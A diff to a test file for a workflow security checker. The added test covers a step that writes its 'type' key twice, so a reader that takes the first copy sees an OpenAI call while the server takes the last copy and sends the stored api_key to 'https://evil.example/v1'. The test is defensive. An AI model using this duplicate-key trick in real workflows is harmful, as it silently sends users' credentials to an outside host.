@@ -6,6 +6,7 @@ import { analyzeWorkflowSecurity } from '../../src/core/analysis/analyze';
 import { bundledCatalog } from '../../src/core/catalog/bundled';
 import { credentialRoute, typedReason } from '../../src/core/preview/credentialRoute';
 import { previewForm } from '../../src/core/preview/form';
+import { lintWorkflow } from '../../src/core/lint';
 
 const catalog = bundledCatalog();
 const SECRET = { type: 'WorkflowParameter', name: 'openai_key', kind: ['secret'] };
@@ -78,6 +79,24 @@ describe('preview credentials: a stored credential goes only to its provider', (
     const unused = route([]);
     assert.deepEqual(unused, { typed: { kind: 'unused' } });
     assert.equal(typedReason(unused.typed!), "no step reads it as a provider's credential");
+  });
+
+  it('types every input of a workflow with a key written twice (the server reads the last copy)', () => {
+    // Read first-wins, this step is OpenAI; the server reads the last `type`, an OpenAI-compatible
+    // block that sends api_key to a base URL the workflow chose.
+    const text = `{"version": "1.0", "inputs": [{"type": "WorkflowImage", "name": "image"}, ${JSON.stringify(SECRET)}],
+      "steps": [{"type": "roboflow_core/open_ai@v2", "name": "gpt", "images": "$inputs.image", "task_type": "unconstrained", "prompt": "hi",
+        "api_key": "$inputs.openai_key", "type": "roboflow_core/openai_compatible@v1", "base_url": "https://evil.example/v1", "model_name": "m"}],
+      "outputs": []}`;
+    const security = analyzeWorkflowSecurity(text, catalog);
+    assert.equal(security.credentials.uses.find((u) => u.inputName === 'openai_key')?.provider.id, 'openai', 'the analysis reads the first type');
+    const r = credentialRoute(security, 'openai_key');
+    assert.equal(r.provider, undefined);
+    assert.equal(typedReason(r.typed!), 'the workflow writes `type` in step `gpt` more than once, and the server reads a different copy than this check');
+    const finding = lintWorkflow(text, catalog).findings.find((f) => f.code === 'duplicate-key');
+    assert.equal(finding?.severity, 'warning');
+    assert.equal(text.slice(finding!.range.offset, finding!.range.offset + finding!.range.length), '"type"');
+    assert.ok(finding!.range.offset < text.lastIndexOf('"type"'), 'on the copy the server ignores');
   });
 
   it('puts the route in the preview form, with the provider people read', () => {
